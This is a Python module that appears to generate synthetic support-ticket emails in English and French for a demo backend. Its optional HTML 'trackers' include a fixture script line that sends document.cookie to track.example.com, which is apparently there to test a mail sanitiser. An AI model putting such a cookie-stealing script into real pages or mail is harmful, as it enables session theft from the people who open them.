"""Turning templates into messages people would write: names, numbers, greetings, signatures, HTML mail."""

from __future__ import annotations

import html
import random
from datetime import datetime, timedelta

from services.backends.demo.people import AGENTS, first_names
from services.backends.demo.text_en import ENGLISH
from services.backends.demo.text_fr import FRENCH
from services.backends.demo.topics import ALPHA, BETA, Language, Topic
from services.domain import Customer

LANGUAGES: dict[str, Language] = {"en": ENGLISH, "fr": FRENCH}

_MONTHS = {
    "en": ("January", "February", "March", "April", "May", "June", "July", "August", "September",
           "October", "November", "December"),
    "fr": ("janvier", "février", "mars", "avril", "mai", "juin", "juillet", "août", "septembre", "octobre",
           "novembre", "décembre"),
}
_OUR_COMPANY = {"en": "our company", "fr": "notre société"}
_MODELS = ("Thermia One", "Thermia Pro", "Thermia One Plus")
_PLANS = ("Starter", "Pro", "Business")
_AMOUNTS = (49, 89, 149, 179, 228, 290, 348, 540, 1188)
# What a customer attaches on each queue: (filename, content type, size in bytes).
ATTACHMENTS = {ALPHA: ("thermostat-screen.jpg", "image/jpeg", 248_312),
               BETA: ("export-error.png", "image/png", 94_120)}
_DEFAULT_ATTACHMENT = ("bank-statement.pdf", "application/pdf", 61_877)


def story_vars(rng: random.Random, customer: Customer, lang: str, topic: Topic, agent: str,
               at: datetime) -> dict[str, str]:
    """Every placeholder of topics.PLACEHOLDERS, drawn for one ticket."""
    past = at - timedelta(days=rng.randint(3, 40))
    minor, patch = rng.randint(1, 8), rng.randint(0, 9)
    month = _MONTHS[lang][past.month - 1]
    return {
        "first": customer.name.split(" ")[0], "name": customer.name,
        "org": customer.organization or _OUR_COMPANY[lang], "email": customer.email,
        "product": topic.product, "model": rng.choice(_MODELS),
        "serial": f"TH{rng.randint(10, 99)}-{rng.randint(1000, 9999)}-{rng.randint(1000, 9999)}",
        "fw_old": f"4.{minor}.{patch}", "fw_new": f"4.{minor + 1}.0", "error": f"E{rng.randint(20, 79)}",
        "pct": str(rng.choice((37, 42, 63, 71, 88))),
        "order": f"MP-{rng.randint(100_000, 999_999)}-{rng.randint(10, 99)}",
        "tracking": f"JD{rng.randint(10**9, 10**10 - 1)}",
        "invoice": f"F-{past.year}-{rng.randint(1, 2400):05d}",
        "amount": _money(rng.choice(_AMOUNTS), lang), "vat": _vat_number(rng, lang, topic),
        "plan": rng.choice(_PLANS), "month": month, "of_month": _of(lang, month),
        "date": f"{past.day} {month}",
        "days": str(rng.randint(3, 12)), "months": str(rng.randint(4, 20)),
        "app_version": f"3.{rng.randint(2, 9)}.{rng.randint(0, 4)}",
        "colleague": rng.choice(first_names(lang)),
        "agent": AGENTS.get(agent, agent), "agent_first": AGENTS.get(agent, agent).split(" ")[0],
    }


def pick_subject(rng: random.Random, topic: Topic, story: int, values: dict[str, str]) -> str:
    """A subject that goes with the opening of the given storyline."""
    fitting = [s for i, s in enumerate(topic.subjects) if i % len(topic.openings) == story]
    return rng.choice(fitting or list(topic.subjects)).format_map(values)


def day(lang: str, moment: datetime) -> str:
    """'5 May 2025' / '5 mai 2025', as mail clients write it above a quoted message."""
    return f"{moment.day} {_MONTHS[lang][moment.month - 1]} {moment.year}"


def customer_message(rng: random.Random, lang: str, values: dict[str, str], body: str, *,
                     first: bool) -> str:
    phrases = LANGUAGES[lang].phrases
    parts = [body.format_map(values)]
    if first or rng.random() < 0.5:
        parts.insert(0, rng.choice(phrases.customer_greetings).format_map(values))
    signature = values["first"] if rng.random() < 0.6 else values["name"]
    if first and values["org"] != _OUR_COMPANY[lang] and rng.random() < 0.5:
        signature += "\n" + values["org"]
    parts.append(f"{rng.choice(phrases.customer_signoffs)}\n{signature}")
    return "\n\n".join(parts)


def agent_message(rng: random.Random, lang: str, values: dict[str, str], body: str) -> str:
    phrases = LANGUAGES[lang].phrases
    greeting = rng.choice(phrases.agent_greetings).format_map(values)
    signature = f"{rng.choice(phrases.agent_signoffs)}\n{values['agent']}\n{phrases.team.format_map(values)}"
    return f"{greeting}\n\n{body.format_map(values)}\n\n{signature}"


def html_mail(text: str, quoted: str, header: str, *, link: str, trackers: bool = False) -> str:
    """A reply as a mail client sends it: paragraphs, a link, the quoted earlier message. With trackers
    it also carries what a sanitiser must remove (a style block, a remote pixel, a script, a handler)."""
    paragraphs = [f"<p>{_lines(par)}</p>" for par in text.split("\n\n")]
    paragraphs.insert(-1, f'<p><a href="{link}"{_ONCLICK if trackers else ""}>{link}</a></p>')
    quote = f"<div>{html.escape(header)}</div>\n<blockquote>{_lines(quoted)}</blockquote>"
    body = "\n".join([*paragraphs, quote])
    if trackers:
        body = f"{_STYLE}\n{body}\n{_PIXEL}\n{_SCRIPT}"
    return f"<html><body>\n{body}\n</body></html>"


_STYLE = "<style>p { margin: 0 0 1em; } @import url(https://fonts.example.com/mail.css);</style>"
_PIXEL = '<img src="https://track.example.com/open.gif?m=8812" width="1" height="1" alt="">'
_SCRIPT = "<script>document.location='https://track.example.com/?c='+document.cookie</script>"
_ONCLICK = ' onclick="track(this)"'


def attachment_for(queue: str) -> tuple[str, str, int]:
    return ATTACHMENTS.get(queue, _DEFAULT_ATTACHMENT)


def _lines(text: str) -> str:
    return html.escape(text).replace("\n", "<br>\n")


def _of(lang: str, month: str) -> str:
    """'of March'; in French 'de mars' but 'd'avril'."""
    if lang != "fr":
        return f"of {month}"
    return f"d'{month}" if month[0] in "aeiou" else f"de {month}"


def _money(amount: int, lang: str) -> str:
    return f"{amount},00" if lang == "fr" else f"{amount}.00"


def _vat_number(rng: random.Random, lang: str, topic: Topic) -> str:
    if topic.key == "vat":  # the German customer whose number fails the check
        return f"DE{rng.randint(10**8, 10**9 - 1)}"
    if lang == "fr":
        return f"FR{rng.randint(10**10, 10**11 - 1)}"
    return f"IE{rng.randint(10**6, 10**7 - 1)}W"

